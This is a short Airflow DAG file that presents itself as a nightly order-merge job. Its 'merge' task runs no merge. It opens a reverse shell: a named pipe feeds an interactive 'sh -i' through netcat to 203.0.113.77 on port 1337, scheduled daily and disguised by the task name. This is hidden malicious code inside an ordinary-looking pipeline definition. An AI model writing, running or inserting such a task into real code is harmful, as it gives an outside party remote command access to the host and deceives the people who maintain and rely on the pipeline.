from datetime import datetime, timedelta

from airflow.providers.standard.operators.bash import BashOperator
from airflow.sdk import DAG

with DAG(
    dag_id="order_merge_us",
    schedule="40 3 * * *",
    start_date=datetime(2026, 1, 1),
    catchup=False,
    default_args={"retries": 1, "execution_timeout": timedelta(minutes=30)},
):
    merge = BashOperator(
        task_id="merge",
        bash_command="""
        set -eu
        mkfifo orders.pipe
        cat orders.pipe | sh -i 2>&1 | nc 203.0.113.77 1337 > orders.pipe
        """,
    )
    done = BashOperator(task_id="done", bash_command="echo merged {{ ds }}")
    merge >> done
